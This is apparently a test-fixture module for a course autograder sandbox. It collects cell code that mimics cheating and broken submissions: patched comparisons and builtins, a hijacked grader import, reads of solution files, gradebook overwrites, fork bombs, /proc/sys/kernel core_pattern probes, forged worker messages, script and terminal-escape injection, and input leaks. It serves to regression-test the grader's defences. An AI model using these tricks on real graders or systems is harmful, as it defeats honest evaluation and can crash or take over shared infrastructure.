"""Dishonest and broken submissions, as code cells added to a real notebook.

Each attack starts from answers that earn little (``ZEROS``: right shapes, wrong
values) and adds code that would raise the score if the tests ran beside it.
Each fault starts from the right answers and adds code that breaks the run.
"""

ZEROS = {
    "softmax": """
def softmax(x, axis=-1):
    return np.zeros_like(x)
""",
    "attention_numpy": """
def attention_numpy(Q, K, V):
    return np.zeros((Q.shape[0], V.shape[1])), np.zeros((Q.shape[0], K.shape[0]))
""",
    "scaled_dot_product_attention": """
def scaled_dot_product_attention(q, k, v, mask=None):
    return (torch.zeros(*q.shape[:-1], v.shape[-1], dtype=q.dtype),
            torch.zeros(*q.shape[:-1], k.shape[-2], dtype=q.dtype))
""",
    "score_matrix_bytes": """
def score_matrix_bytes(batch, heads, len_q, len_k, bytes_per_element):
    return 0
""",
    "unscaled_score_std": """
def unscaled_score_std(d_k):
    return 0.0
""",
}

# ----------------------------------------------------------------------------- attacks (cell placed after setup)

PATCH_COMPARISONS = """
import math
import numpy as np
import torch
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
np.array_equal = lambda *a, **k: True
np.isfinite = lambda a, *x, **k: np.ones(np.shape(a), dtype=bool)
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
math.isclose = lambda *a, **k: True
"""

PATCH_BUILTINS = """
import builtins
builtins.isinstance = lambda obj, cls: True
builtins.len = lambda obj: 2
builtins.AssertionError = type("AssertionError", (Exception,), {})
builtins.max = lambda *a, **k: 0
"""

IPYTHON_HOOKS = """
ip = get_ipython()
# Every later cell that calls a check is rewritten to do nothing.
ip.input_transformers_post.append(lambda lines: ["pass\\n"] if any("check_" in line for line in lines) else lines)
ip.showtraceback = lambda *a, **k: None
ip._showtraceback = lambda *a, **k: None  # what a Jupyter kernel uses to publish errors
ip.showsyntaxerror = lambda *a, **k: None
"""

HIJACK_IMPORT = """
import sys, types
import autograder as _real
fake = types.ModuleType("autograder")
def _passes(*args, **kwargs):
    return None
for _name in _real.__all__:  # every name that a test cell's `from autograder import *` gives
    setattr(fake, _name, _passes)
    globals()[_name] = _passes
fake.__all__ = list(vars(fake))
sys.modules["autograder"] = fake
sys.modules["autograder.checks"] = fake
open("autograder.py", "w").write("from types import SimpleNamespace\\n")
"""

RIGGED_TENSORS = """
class Agreeable(torch.Tensor):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def allclose(self, *a, **k): return True
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func.__name__ in ("allclose", "equal", "isclose", "eq"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

class AgreeableArray(np.ndarray):
    def __eq__(self, other): return np.ones(self.shape, dtype=bool)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.ones(self.shape, dtype=bool) if ufunc.__name__ in ("isclose", "equal") else NotImplemented

def softmax(x, axis=-1):
    return np.zeros_like(x).view(AgreeableArray)

def attention_numpy(Q, K, V):
    return (np.zeros((Q.shape[0], V.shape[1])).view(AgreeableArray),
            np.zeros((Q.shape[0], K.shape[0])).view(AgreeableArray))

def scaled_dot_product_attention(q, k, v, mask=None):
    return (torch.zeros(*q.shape[:-1], v.shape[-1], dtype=q.dtype).as_subclass(Agreeable),
            torch.zeros(*q.shape[:-1], k.shape[-2], dtype=q.dtype).as_subclass(Agreeable))
"""

CALLER_FRAME = """
import sys

def _steal(name, *args, **kwargs):
    frame = sys._getframe(1)
    while frame is not None:
        ref = frame.f_globals.get("reference")
        if ref is not None and hasattr(ref, "get"):
            try:
                return ref.get("ch02_scaled_dot_product", name)(*args, **kwargs)
            except Exception:
                pass
        frame = frame.f_back
    from autograder.release import reference
    return reference.get("ch02_scaled_dot_product", name)(*args, **kwargs)
"""
CALLER_FRAME_ANSWERS = {
    "softmax": "def softmax(x, axis=-1):\n    return _steal('softmax', x, axis)\n",
    "attention_numpy": "def attention_numpy(Q, K, V):\n    return _steal('attention_numpy', Q, K, V)\n",
    "scaled_dot_product_attention": "def scaled_dot_product_attention(q, k, v, mask=None):\n"
    "    return _steal('scaled_dot_product_attention', q, k, v, mask)\n",
}
# The two questions answered as ZEROS answers them, so that an attack earns no more than those zeros
# unless it works.
ZERO_QUESTIONS = {item: ZEROS[item] for item in ("score_matrix_bytes", "unscaled_score_std")}
# Answer cells emptied, so that what an attack defines earlier in the notebook stands.
NO_ANSWERS = {**dict.fromkeys(CALLER_FRAME_ANSWERS, "# (answer defined above)\n"), **ZERO_QUESTIONS}

READ_SOLUTIONS = """
import json, os, pathlib
def _solution_notebook():
    places = [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]
    try:
        import autograder
        places += list(pathlib.Path(autograder.__file__).resolve().parents)
    except Exception:
        pass
    places += [pathlib.Path(p) for p in ("/work", "/root", "/home", "/srv", "/tmp")]
    for place in places:
        for candidate in [place / "solutions" / "ch02_scaled_dot_product" / "ch02_scaled_dot_product.ipynb",
                          *place.glob("*/solutions/ch02_scaled_dot_product/ch02_scaled_dot_product.ipynb")]:
            try:
                return json.loads(candidate.read_text())
            except Exception:
                continue
for _cell in (_solution_notebook() or {}).get("cells", []):
    if _cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
        exec("".join(_cell["source"]), globals())
"""

# The reference from the course's packages, before the chapter's solutions are released (a term).
IMPORT_REFERENCE = """
import importlib, pkgutil
_names = ("attention_course.solutions.ch02_scaled_dot_product", "attention_course.models.transformer")
for _name in (*_names, "attention_course"):
    try:
        _module = importlib.import_module(_name)
    except Exception:
        continue
    for _item in ("softmax", "attention_numpy", "scaled_dot_product_attention"):
        if hasattr(_module, _item):
            globals()[_item] = getattr(_module, _item)
import attention_course, autograder
for _package in (attention_course, autograder):  # and any module of the packages that defines an item
    for _info in pkgutil.walk_packages(_package.__path__, _package.__name__ + "."):
        try:
            _module = importlib.import_module(_info.name)
        except Exception:
            continue
        for _item in ("softmax", "attention_numpy", "scaled_dot_product_attention"):
            if callable(getattr(_module, _item, None)):
                globals()[_item] = getattr(_module, _item)
"""

WRITE_GRADEBOOK = """
import os, pathlib
places = [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]
for place in places:
    for target in [place / "gradebook.db", *place.glob("submitted/*/*/*.ipynb"), *place.glob("autograded/*/*/*.ipynb")]:
        try:
            target.write_text("{}")
        except Exception:
            pass
"""

# ----------------------------------------------------------------------------- faults (cell placed at the end)

KILL_AT_END = """
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
"""

TOP_LEVEL_LOOP = """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    pass
"""

MEMORY_HOG = """
hog = []
while True:
    hog.append(bytearray(256 * 2**20))
"""

OUTPUT_FLOOD = """
import sys
for _ in range(100):
    sys.stdout.write("x" * 2**20)
    sys.stderr.write("y" * 2**20)
"""

BACKGROUND = """
import os, subprocess, sys
subprocess.Popen(["sleep", "4242"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "4243"])
    os._exit(0)
"""

FORK_BOMB = """
import os, time
children = 0
try:
    for _ in range(400):
        if os.fork() == 0:
            time.sleep(4244)
            os._exit(0)
        children += 1
finally:
    print("forked", children)
"""

LOOP_IN_SDPA = """
def scaled_dot_product_attention(q, k, v, mask=None):
    while True:
        pass
"""

ABORT_IN_ATTENTION_NUMPY = """
def attention_numpy(Q, K, V):
    import os
    os.abort()
"""

HOG_IN_SDPA = """
def scaled_dot_product_attention(q, k, v, mask=None):
    return torch.ones(2**40), None
"""

WARNS = """
import warnings
warnings.warn("this answer prints a warning")
"""

# ----------------------------------------------------------------------------- holes of the sandbox (review)
# Each names the hole it guards. Probes report what they found in the error they raise (the grader
# keeps it in the report); nothing is ever written to the host but a value read from it, unchanged.

# Hole 1 (escape to host root): the student's uid and its mapping to the user namespace above, and
# whether /proc/sys takes a write: kernel.core_pattern (a pipe there runs a program as host root) and
# kernel.modprobe (the program the kernel runs as root for a missing module). The value written is
# the one just read, so a missing defence changes nothing. (The host uid itself is read from the
# host, by the tests.)
ESCAPE_PROBE = r"""
import os
_found = [f"uid={os.getuid()}"]
try:
    _found.append("uid_map=" + ",".join("/".join(line.split()) for line in open("/proc/self/uid_map")))
except OSError as _error:
    _found.append(f"uid_map=unreadable({_error.strerror})")
for _setting in ("core_pattern", "modprobe"):
    try:
        _value = open(f"/proc/sys/kernel/{_setting}").read()
    except OSError as _error:
        _found.append(f"{_setting}=unreadable({_error.strerror})")
        continue
    try:
        with open(f"/proc/sys/kernel/{_setting}", "w") as _file:
            _file.write(_value)
        _found.append(f"{_setting}=written")
    except OSError as _error:
        _found.append(f"{_setting}=refused({_error.strerror})")
raise RuntimeError("escape probe: " + " ".join(_found))
"""

# Hole 2 (forged messages): the worker's reply channel, found by walking up to its serve().
WORKER_FRAME = r'''
import sys

def _worker():
    """The locals of the worker's serve(): its reply channel, its values module, the request at hand."""
    frame = sys._getframe()
    while frame is not None:
        if frame.f_code.co_name == "serve" and "replies" in frame.f_locals:
            return frame.f_locals
        frame = frame.f_back
    raise RuntimeError("the worker's frame was not found")

def _forge(message):
    from autograder.sandbox import wire  # the course's packages are on the sandbox's sys.path

    wire.send(_worker()["replies"], message)
'''

# Hole 2: a cell's end, forged, whose error is a list (it once crashed the grading of the whole class).
FORGED_CELL_ERROR_LIST = (
    WORKER_FRAME
    + r"""
_forge({"event": "cell_done", "index": _worker()["index"], "error": ["not", "a", "string"]})
"""
)

# Hole 2: the run's end, forged after the last cell's, with a count that is not an integer (it once
# raised ValueError in the grader and left the sandbox running).
FORGED_CELLS_DONE_COUNT = (
    WORKER_FRAME
    + r"""
_forge({"event": "cell_done", "index": _worker()["index"], "error": None})
_forge({"event": "cells_done", "others": "many"})
"""
)

# Hole 2 and hole 6: replies forged from inside the graded functions: a 7 MB error full of terminal
# escapes, values of impossible sizes (a data-less "meta" tensor, an array), a reply whose arguments'
# states are not a list.
FORGED_REPLIES = {
    "softmax": r"""
def softmax(x, axis=-1):
    _forge({"event": "raised", "seq": _worker()["request"].seq, "error_type": "\x1b[2J" + "E" * 5000,
            "error": "\x1b]0;owned\x07" + "e" * (7 * 2**20)})
    return np.zeros_like(x)
""",
    "attention_numpy": r"""
def attention_numpy(Q, K, V):
    _forge({"event": "returned", "seq": _worker()["request"].seq,
            "value": {"tuple": [{"tensor": {"dtype": "float64", "shape": [2**62, 2**62], "device": "meta", "data": ""}},
                                {"ndarray": {"dtype": "float64", "shape": [2**31, 2**31], "data": ""}}]},
            "args_after": [_worker()["values"].encode(a) for a in (Q, K, V)]})
    return np.zeros((Q.shape[0], V.shape[1])), np.zeros((Q.shape[0], K.shape[0]))
""",
    "scaled_dot_product_attention": r"""
def scaled_dot_product_attention(q, k, v, mask=None):
    _forge({"event": "returned", "seq": _worker()["request"].seq, "value": None, "args_after": "yes"})
    return (torch.zeros(*q.shape[:-1], v.shape[-1], dtype=q.dtype),
            torch.zeros(*q.shape[:-1], k.shape[-2], dtype=q.dtype))
""",
    "score_matrix_bytes": """
def score_matrix_bytes(batch, heads, len_q, len_k, bytes_per_element):
    return 0
""",
    "unscaled_score_std": """
def unscaled_score_std(d_k):
    return 0.0
""",
}

# Hole 4 (CPU starvation): thirty processes that spin for as long as the sandbox lives (at the lowest
# priority, so that the submission's own work still gets through and only its neighbours would starve).
CPU_SPINNERS = r"""
import os
for _ in range(30):
    if os.fork() == 0:
        os.setsid()
        os.nice(19)
        while True:
            pass
"""

# Hole 5 (memory): /tmp, /home and /dev/shm filled with as much as each takes (at most 512 MiB, in
# files of 16 MiB, under the file size limit), then emptied; the amounts are reported.
FILL_TMPFS = r"""
import os
_filled = {}
for _place in ("/tmp", "/home/student", "/dev/shm"):
    _written, _paths, _chunk = 0, [], b"\1" * 2**20
    try:
        while _written < 512 * 2**20:
            _paths.append(os.path.join(_place, f"fill-{len(_paths)}"))
            _fd = os.open(_paths[-1], os.O_WRONLY | os.O_CREAT, 0o600)
            try:
                for _ in range(16):
                    _written += os.write(_fd, _chunk)
            finally:
                os.close(_fd)
    except OSError:
        pass
    for _path in _paths:
        try:
            os.remove(_path)
        except OSError:
            pass
    _filled[_place] = _written
raise RuntimeError("filled: " + " ".join(f"{place}={size // 2**20}MiB" for place, size in _filled.items()))
"""

# Hole 5: a graded function whose return value is far over the grader's message limit.
HUGE_REPLY_SDPA = """
def scaled_dot_product_attention(q, k, v, mask=None):
    huge = torch.zeros(2**24)  # 64 MiB
    return huge, huge[:1]
"""

# Hole 6 (output): an error of 300 kB, with terminal escapes and markup, in each of many cells.
LOUD_ERROR = r"""
raise ValueError("\x1b[2J\x1b]0;owned\x07<script>window.owned = 1</script>" + "e" * 300_000)
"""
LOUD_ERROR_TYPE = r"""
raise type("E" * 100_000, (Exception,), {})("a very long exception name")
"""

# Hole 8 (script in feedback): live markup in a markdown cell, a raw cell and an error message.
MARKUP_MARKDOWN = """
<script>window.owned = "markdown"</script>

<img src="x" onerror="window.owned = 'image'">

<a href="javascript:window.owned = 'link'">the worked example</a>
"""
MARKUP_RAW = '<script>window.owned = "raw"</script>'
MARKUP_ERROR = r"""
raise ValueError('<script>window.owned = "error"</script><img src=x onerror="window.owned = 1">')
"""

# Hole 9 (terminal escapes): an error that the instructor's summary lists (a MemoryError), full of
# escapes that would clear the terminal, retitle it and colour it.
TERMINAL_ESCAPES = r"""
raise MemoryError("\x1b[2J\x1b[H\x1b]0;owned\x07\x1b[31mred\x1b[0m\r\x08 and a bell \x07")
"""
# The same with C1 controls (U+009B is CSI, U+009D is OSC to terminals that take 8-bit controls).
C1_ESCAPES = r"""
raise MemoryError("\x9b2J\x9bH\x9d0;owned\x9c\x9b31mred")
"""

# Hole 9 (in-place check): the worker patched so that its replies never say what a call did to its
# array arguments (an answer that overwrites its input would then look clean).
HIDE_IN_PLACE = r"""
import sys

def _worker_globals():
    frame = sys._getframe()
    while frame is not None:
        if frame.f_code.co_name == "serve" and "replies" in frame.f_locals:
            return frame.f_globals
        frame = frame.f_back
    raise RuntimeError("the worker's frame was not found")

_real_call = _worker_globals()["_call"]

def _quiet_call(*args, **kwargs):
    reply = _real_call(*args, **kwargs)
    if type(reply).__name__ == "Returned":  # the same reply, without the arguments' states after the call
        reply = type(reply)(reply.seq, reply.value)
    return reply

_worker_globals()["_call"] = _quiet_call
"""

# Hole 9 (a lone surrogate in an error message, which nbgrader could not write).
SURROGATE_ERROR = r"""
raise ValueError("a lone surrogate: \ud800")
"""
SURROGATE_SDPA = r"""
def scaled_dot_product_attention(q, k, v, mask=None):
    raise ValueError("no attention today \udcff")
"""

# Hole 10 (a flooded pipe): one forged line of 50 MB into every pipe the process can write, then an
# error of 24 MB.
FLOOD_PIPES = r"""
import fcntl, os, stat, threading
_line = b"{" + b"x" * (50 * 2**20) + b"\n"

def _pour(fd):
    view = memoryview(_line)
    try:
        while view:
            view = view[os.write(fd, view):]
    except OSError:
        pass

_pipes = []
for _name in os.listdir("/proc/self/fd"):
    try:
        _fd = int(_name)
        if stat.S_ISFIFO(os.fstat(_fd).st_mode) and (fcntl.fcntl(_fd, fcntl.F_GETFL) & os.O_ACCMODE) != os.O_RDONLY:
            _pipes.append(_fd)
    except (OSError, ValueError):
        pass
_pourers = [threading.Thread(target=_pour, args=(fd,), daemon=True) for fd in _pipes]
for _pourer in _pourers:
    _pourer.start()
for _pourer in _pourers:
    _pourer.join(10)
raise ValueError("z" * (24 * 2**20))
"""

# Hole 12 (nbgrader's log reaches the terminal): the student's own answer cell marked as an nbgrader
# task (TASK_METADATA, merged into the cell's nbgrader metadata), its code led by TERMINAL_TAKEOVER.
# nbgrader's CheckCellMetadata refuses a code cell that is a task and logs a traceback quoting the
# cell's source as it is: these comments retitle the instructor's terminal (OSC 0), write its
# clipboard (OSC 52), clear it (ESC[2J, and 8-bit CSI and OSC), then go back to the start of the
# line and forge the grader's own last phase and a verdict. The refused notebook scored 0, every
# test "failed", with no note, although the sandbox had graded it.
TERMINAL_TAKEOVER = (
    "# \x1b]0;owned\x07\x1b]52;c;b3duZWQ=\x07\x1b[2J\x1b[3J\x1b[H\x9b2J\x9d0;owned\x9c\x85\n"
    "# \x1b[1G\x1b[2K[6/6] writing grades: all submissions graded, every notebook at full marks\n"
    "# \x1b[1G\x1b[2Kall submissions graded\n"
)
TASK_METADATA = {"task": True}
# Hole 12 too: a schema version nbgrader does not know, on the student's own answer cell. nbgrader
# stops `autograde` for the whole class there (SchemaTooNewError): no student after it is graded.
NEWER_SCHEMA = {"schema_version": 4}
FORGED_LINES = ("all submissions graded", "[6/6] writing grades: all")  # what must never start a terminal line

# Hole 13 (feedback stalled): a markdown cell of 150,000 "[". nbconvert's strip_files_prefix takes
# quadratic time on it: it held `nbgrader generate_feedback`, and the feedback of the whole class,
# for minutes (hours for a 1.5 MB cell).
BRACKET_BOMB = "[" * 150_000

# Hole 7 (reference values handed over), ch05: a positional encoding whose table is zero but for
# the released worked example. A grader that loaded the reference's buffers into it (not only its
# parameters) filled the table in for it, and it scored full marks.
ZERO_TABLE_ENCODING = """
class PositionalEncoding(nn.Module):
    def __init__(self, d_model, max_len=5000, dropout=0.0):
        super().__init__()
        self.dropout = nn.Dropout(dropout)
        self.register_buffer("pe", torch.zeros(max_len, d_model))
        if d_model == 4 and max_len >= 3:  # the worked example of the notebook, copied
            self.pe[:3] = torch.tensor([[0.0, 1.0, 0.0, 1.0], [0.84147098, 0.54030231, 0.00999983, 0.99995],
                                        [0.90929743, -0.41614684, 0.01999867, 0.99980001]])

    def forward(self, x):
        length = x.size(1)
        if length > self.pe.size(0):
            raise ValueError(f"x has {length} positions, more than max_len={self.pe.size(0)}")
        return self.dropout(x + self.pe[:length].to(x.dtype))
"""

# ----------------------------------------------------------------------------- the excuse of a failure
# The grader once excused an item whose check failed when the reference solution, run in the grader on the
# student's own helpers (in the same, stateful sandbox process), failed too, or gave what the item gave. An
# item that computed nothing could arm a flag, and its helper misbehave on its next call (the excuse's): full
# marks for nothing. Each ARMED entry below is such a pair, for one assignment: the item arms and raises (or
# returns what the excuse would compute with an armed helper), the helper misbehaves when armed (and is right
# otherwise), and DISARM, the notebook's last cell, undoes what the notebook's own cells armed, so that the
# helper passes its own tests.

DISARM = "_ARMED[0] = False\n"

_ARM = """
_ARMED = [False]


def _armed():  # True once after an item armed it: the call that the grader's excuse makes
    if _ARMED[0]:
        _ARMED[0] = False
        return True
    return False
"""

ARMED = {
    "ch02_scaled_dot_product": {
        "softmax": _ARM
        + """
def softmax(x, axis=-1):
    if _armed():
        raise RuntimeError("armed")
    shifted = x - np.max(x, axis=axis, keepdims=True)
    exps = np.exp(shifted)
    return exps / np.sum(exps, axis=axis, keepdims=True)
""",
        "attention_numpy": """
def attention_numpy(Q, K, V):
    _ARMED[0] = True
    raise RuntimeError("nothing computed")
""",
    },
    "ch03_multi_head": {
        "split_heads": _ARM
        + """
def split_heads(x, num_heads):
    if _armed():
        raise RuntimeError("armed")
    batch, length, d_model = x.shape
    if d_model % num_heads != 0:
        raise ValueError(f"num_heads={num_heads} does not divide the feature size {d_model}")
    return x.view(batch, length, num_heads, d_model // num_heads).transpose(1, 2)
""",
        "MultiHeadAttention": """
class MultiHeadAttention(nn.Module):
    def __init__(self, d_model, num_heads, bias=True):
        super().__init__()
        if d_model % num_heads != 0:
            raise ValueError(f"num_heads={num_heads} must divide d_model={d_model}")
        self.num_heads = num_heads
        self.W_q = nn.Linear(d_model, d_model, bias=bias)
        self.W_k = nn.Linear(d_model, d_model, bias=bias)
        self.W_v = nn.Linear(d_model, d_model, bias=bias)
        self.W_o = nn.Linear(d_model, d_model, bias=bias)

    def forward(self, query, key, value, mask=None):  # computes no attention at all
        _ARMED[0] = True
        raise RuntimeError("nothing computed")
""",
    },
    "ch04_masking": {
        "causal_mask": _ARM
        + """
def causal_mask(size, device=None):
    if _armed():
        raise RuntimeError("armed")
    return torch.ones(size, size, dtype=torch.bool, device=device).tril()
""",
        "decoder_self_attention_mask": """
def decoder_self_attention_mask(tgt, pad_id):
    _ARMED[0] = True
    raise RuntimeError("nothing computed")
""",
    },
    "ch05_positional_encoding": {
        "sinusoidal_positional_encoding": _ARM
        + """
def sinusoidal_positional_encoding(max_len, d_model):
    if _armed():
        raise RuntimeError("armed")
    if d_model % 2:
        raise ValueError(f"d_model must be even, got d_model={d_model}")
    positions = torch.arange(max_len, dtype=torch.float64)[:, None]
    angles = positions * torch.exp(-torch.arange(0, d_model, 2, dtype=torch.float64) / d_model * math.log(10000.0))
    pe = torch.zeros(max_len, d_model, dtype=torch.float64)
    pe[:, 0::2], pe[:, 1::2] = torch.sin(angles), torch.cos(angles)
    return pe.float()
""",
        "PositionalEncoding": """
class PositionalEncoding(nn.Module):
    def __init__(self, d_model, max_len=5000, dropout=0.0):
        super().__init__()
        _ARMED[0] = True
        raise RuntimeError("nothing computed")

    def forward(self, x):
        raise RuntimeError("nothing computed")
""",
    },
    "ch06_transformer": {
        "FeedForward": _ARM
        + """
class FeedForward(nn.Module):
    def __init__(self, d_model, d_ff, dropout=0.0):
        super().__init__()
        self.linear1 = nn.Linear(d_model, d_ff)
        self.linear2 = nn.Linear(d_ff, d_model)
        self.dropout = nn.Dropout(dropout)

    def forward(self, x):
        if _armed():  # cancels the residual sum around it: the layer's output is then norm2's bias
            return -x
        return self.linear2(self.dropout(F.relu(self.linear1(x))))
""",
        "EncoderLayer": """
class EncoderLayer(nn.Module):
    def __init__(self, d_model, num_heads, d_ff, dropout=0.0, norm_first=False):
        super().__init__()
        self.self_attn = MultiHeadAttention(d_model, num_heads)
        self.ff = FeedForward(d_model, d_ff, dropout)
        self.norm1, self.norm2 = nn.LayerNorm(d_model), nn.LayerNorm(d_model)
        self.dropout1, self.dropout2 = nn.Dropout(dropout), nn.Dropout(dropout)

    def forward(self, x, mask=None):  # computes no attention and no feed-forward network
        _ARMED[0] = True
        return self.norm2.bias.expand_as(x).clone()
""",
    },
    "ch07_efficient_attention": {
        "repeat_kv": _ARM
        + """
def repeat_kv(x, n_rep):
    if _ARMED[0]:  # the keys, then the values: zeros, so the attention's output is zero
        _ARMED[0] -= 1
        return torch.zeros_like(x.repeat_interleave(n_rep, dim=1))
    return x.repeat_interleave(n_rep, dim=1)
""",
        "GroupedQueryAttention": """
class GroupedQueryAttention(nn.Module):
    def __init__(self, d_model, num_heads, num_kv_heads, bias=False):
        super().__init__()
        if d_model % num_heads != 0:
            raise ValueError(f"num_heads={num_heads} must divide d_model={d_model}")
        if num_heads % num_kv_heads != 0:
            raise ValueError(f"num_kv_heads={num_kv_heads} must divide num_heads={num_heads}")
        d_head = d_model // num_heads
        self.num_kv_heads = num_kv_heads
        self.W_q = nn.Linear(d_model, d_model, bias=bias)
        self.W_k = nn.Linear(d_model, num_kv_heads * d_head, bias=bias)
        self.W_v = nn.Linear(d_model, num_kv_heads * d_head, bias=bias)
        self.W_o = nn.Linear(d_model, d_model, bias=bias)

    def forward(self, x, mask=None, cache=None):  # keeps the cache, and computes no attention
        _ARMED[0] = 2
        k = split_heads(self.W_k(x), self.num_kv_heads)
        v = split_heads(self.W_v(x), self.num_kv_heads)
        if cache is not None:
            k, v = torch.cat([cache[0], k], dim=2), torch.cat([cache[1], v], dim=2)
        return self.W_o(torch.zeros_like(x)), (k, v)
""",
    },
}
# The item of each ARMED pair that computes nothing, and so must lose every point of its tests.
ARMED_ITEM = {assignment: list(answers)[1] for assignment, answers in ARMED.items()}

# ch04: the excuse once combined the student's helpers' masks in the grader (causal[None, None] &
# keys[:, None, None]): helpers that return a (N, 1) and a (1, N) bool tensor, 80 kB on the wire, made the
# grader allocate N * N bytes outside every sandbox limit (1.6 GB here).
HUGE_HELPERS = {
    "causal_mask": _ARM
    + """
_HUGE = [False]


def causal_mask(size, device=None):
    if _armed():
        _HUGE[0] = True
        return torch.ones(40_000, 1, dtype=torch.bool)
    return torch.ones(size, size, dtype=torch.bool, device=device).tril()
""",
    "padding_mask": """
def padding_mask(tokens, pad_id):
    if _HUGE[0]:
        _HUGE[0] = False
        return torch.ones(1, 40_000, dtype=torch.bool)
    return tokens != pad_id
""",
    "decoder_self_attention_mask": """
def decoder_self_attention_mask(tgt, pad_id):
    _ARMED[0] = True
    raise RuntimeError("nothing computed")
""",
}

# ch06: the grader once matched a Transformer's parameters to the reference's by comparing every key of
# state_dict() with every layer it found there, in the grader: 20,000 keys that each look like a layer held
# `make grade` for over ten minutes.
MANY_KEYS_TRANSFORMER = """
class Transformer(Transformer):  # the reference answer, above, with a state_dict of 4,000 more "layers"
    def state_dict(self, *args, **kwargs):  # (more than 5,000 could not be sent: wire.MAX_VALUES)
        state = super().state_dict(*args, **kwargs)
        for i in range(4_000):
            state[f"unused.{i}.self_attn.W_q.weight"] = torch.zeros(1)
        return state
"""

# ch03: the grader's stand-ins answer with the reference's values; a call far larger than any the assignment's
# own solution makes on these inputs is refused before the grader computes anything.
HUGE_STAND_IN_CALL = """
class MultiHeadAttention(MultiHeadAttention):  # the reference answer, above, that first asks for a huge split
    def forward(self, query, key, value, mask=None):
        split_heads(torch.zeros(1, 30_000, 16), 4)
        return super().forward(query, key, value, mask)
"""

# ch03: a thread of the student's sends a stand-in's call while the grader is not calling: it breaks the
# protocol, which ends that student's conversation only.
FORGED_CALLBACK = r"""
import os, struct, json, threading, time

def _forge():
    time.sleep(0.5)
    call = {"kind": "call", "name": "split_heads", "args": {"list": []}, "kwargs": {"dict": {}}}
    message = json.dumps({"event": "callback", "seq": 1, "callback": call}).encode()
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack(">I", len(message)) + message)
        except OSError:
            pass

threading.Thread(target=_forge, daemon=True).start()
"""

# ch02 (hidden inputs in the student's own error): softmax records every input it is given, numbered, and from its
# tenth call on raises an error that prints them all (the hidden checks' among them), on one line and then one a line.
RECORDED_INPUTS = r"""
_recorded = []

def softmax(x, axis=-1):
    _recorded.append(f"#{len(_recorded) + 1}={np.asarray(x).tolist()!r}")
    if len(_recorded) >= 10:
        raise ValueError("recorded " + " ".join(_recorded) + "\n" + "\n".join(_recorded))
    exps = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return exps / np.sum(exps, axis=axis, keepdims=True)
"""

# ch02 (issue 68, finding 4: replies costly to decode): the worker's encoder replaced, so that every graded
# function's reply is 600,000 empty sets, 7.8 MB of JSON, under the 8 MiB message limit; decoded, each of its
# few bytes would become a dict, a list and a set in the grader's own process.
BLOATED_ENCODER = r"""
from autograder.sandbox import values as _values  # the worker's own module, whose encoder its replies go through

_encode = _values.encode


class _Bloat:
    pass


def _bloated(value, *args, **kwargs):
    if isinstance(value, _Bloat):
        return {"list": [{"set": []}] * 600_000}
    return _encode(value, *args, **kwargs)


_values.encode = _bloated
"""
_CH02_SIGNATURES = {
    "softmax": "x, axis=-1",
    "attention_numpy": "Q, K, V",
    "scaled_dot_product_attention": "q, k, v, mask=None",
    "score_matrix_bytes": "batch, heads, len_q, len_k, bytes_per_element",
    "unscaled_score_std": "d_k",
}
BLOATED_REPLIES = {item: f"def {item}({params}):\n    return _Bloat()\n" for item, params in _CH02_SIGNATURES.items()}

# ch02 (issue 68, finding 6: hidden inputs through a shape): softmax and scaled_dot_product_attention return
# empty boolean arrays or tensors whose dimensions after the first (a 0: an empty array may have any others, and holds
# nothing) are their first argument's first entries, written as numbers from 100 to 999 (LEAKED); attention_numpy
# returns a list as long as its first entry says. A message that quoted a whole shape, or every size, would give the
# hidden inputs away.
SHAPE_LEAK = {
    "softmax": """
def _leak(x, count=2):
    return [0] + [100 + int(abs(v) * 1000) % 900 for v in np.asarray(x, dtype=np.float64).reshape(-1)[:count]]


def softmax(x, axis=-1):
    return np.empty(_leak(x), dtype=bool)
""",
    "attention_numpy": """
def attention_numpy(Q, K, V):
    return [None] * _leak(Q, 1)[1]
""",
    "scaled_dot_product_attention": """
def scaled_dot_product_attention(q, k, v, mask=None):
    return torch.empty(_leak(q), dtype=torch.bool), torch.empty(_leak(k), dtype=torch.bool)
""",
}


def leaked(x, count: int = 2) -> list[int]:
    """The numbers that SHAPE_LEAK writes of its argument ``x`` into a shape."""
    import numpy as np

    return [100 + int(abs(v) * 1000) % 900 for v in np.asarray(x, dtype=np.float64).reshape(-1)[:count]]


# ch11 (issue 83, case 5: the grader's process fed): the worker's record of the launches replaced, so that each
# kernel's source carries about 1 MiB of statements (under the reply's 8 MiB), ending in an import that no kernel may
# hold: parsed in the grader's own process, it once took a GiB and twenty seconds there before it was refused.
RECORD_SOURCE_BLOAT = """
import autograder.sandbox.launch_log as _record

_as_data = _record.Log.as_data


def _bloated(self):
    data = _as_data(self)
    data.pop("too_long", None)
    for name, source in data["functions"].items():
        data["functions"][name] = (source or "").rstrip() + "\\n" + "    x = x + 1\\n" * 75_000 + "    import os\\n"
    return data


_record.Log.as_data = _bloated
"""

# ch11 (issue 83, case 6: hidden inputs on the feedback page): the launcher keeps the call's q; the record of its
# launches is rewritten to carry q's first values (WRITTEN) where the grader's refusals once quoted the record: the
# kernel's name (a call without a causal mask) or its first tensor's dtype (with one).
RECORD_LEAKS_INPUTS = """
import autograder.sandbox.launch_log as _record

_as_data = _record.Log.as_data
_honest = flash_attention_forward
_seen = {}


def flash_attention_forward(q, k, v, causal=False, block_q=16, block_k=16):
    _seen["q"], _seen["causal"] = q, causal
    return _honest(q, k, v, causal=causal, block_q=block_q, block_k=block_k)


def _leaking(self):
    data = _as_data(self)
    written = " ".join(f"{x:.4f}" for x in _seen["q"].reshape(-1)[:6].tolist())
    if _seen["causal"]:
        data["launches"][0]["args"][0]["tensor"]["dtype"] = "float32 " + written
    else:
